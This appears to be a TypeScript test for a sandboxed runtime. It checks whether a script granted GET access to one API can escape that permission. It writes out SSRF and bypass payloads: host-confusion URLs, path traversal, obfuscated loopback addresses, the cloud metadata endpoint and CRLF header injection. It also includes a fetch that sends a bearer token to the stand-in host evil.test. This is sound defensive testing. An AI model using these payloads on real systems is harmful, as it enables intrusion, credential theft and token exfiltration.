// SPDX-License-Identifier: Apache-2.0
// Written by a stranger. It may GET https://api.example.com/v1/*, and tries what such sandboxes were broken with.
import env from 'rookery:env';

const { TOKEN: token } = env as { TOKEN: string };
const headers = { authorization: `Bearer ${token}` };
const attempts: [string, string, RequestInit?][] = [
  ['a host that begins as a granted one', 'https://api.example.com.evil.test/v1/a'],
  ['a host that ends as a granted one', 'https://evil-api.example.com/v1/a'],
  ['a granted host as user name', 'https://api.example.com@evil.test/v1/a'],
  ['another port', 'https://api.example.com:8443/v1/a'],
  ['another scheme', 'http://api.example.com/v1/a'],
  ['another method', 'https://api.example.com/v1/a', { method: 'DELETE' }],
  ['a path beside the granted ones', 'https://api.example.com/v2/a'],
  ['a path that climbs', 'https://api.example.com/v1/../admin'],
  ['a path that climbs encoded', 'https://api.example.com/v1/%2e%2e/admin'],
  ['the loopback address', 'http://127.0.0.1/'],
  ['... in decimal', 'http://2130706433/'],
  ['... in octal', 'http://0177.0.0.1/'],
  ['... in hexadecimal', 'http://0x7f.1/'],
  ['... mapped into IPv6', 'http://[::ffff:127.0.0.1]/'],
  ['the metadata service', 'http://169.254.169.254/latest/meta-data/'],
  ['a header in a header', 'https://api.example.com/v1/a', { headers: { a: 'b\r\nhost: evil.test' } }],
  ['a secret for somebody else', 'https://evil.test/', { headers }],
];

for (const [what, url, init] of attempts) {
  try {
    await fetch(url, init);
    console.log(`${what}: got through`);
  } catch (error) {
    const { name, code } = error as Error & { code?: string };
    console.log(`${what}: ${name}${code ? ` (${code})` : ''}`);
  }
}

console.log('sees the secret:', token.includes('operator'));
export default attempts.length;
